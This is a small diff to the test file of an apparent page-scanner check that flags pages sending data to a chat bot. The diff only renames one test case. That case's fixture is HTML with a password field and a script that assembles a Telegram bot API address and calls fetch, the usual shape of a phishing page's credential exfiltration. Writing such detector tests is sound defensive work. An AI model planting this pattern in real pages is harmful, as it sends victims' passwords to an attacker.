@@ -32,7 +32,7 @@ testPageCheck(sendsToChatCheck, {
       finds: found,
     },
     {
-      name: 'put together',
+      name: 'an assembled address',
       html: '<input type="password"><script>fetch("https://api.tele" + "gram.org/bot" + t)</script>',
       finds: found,
     },
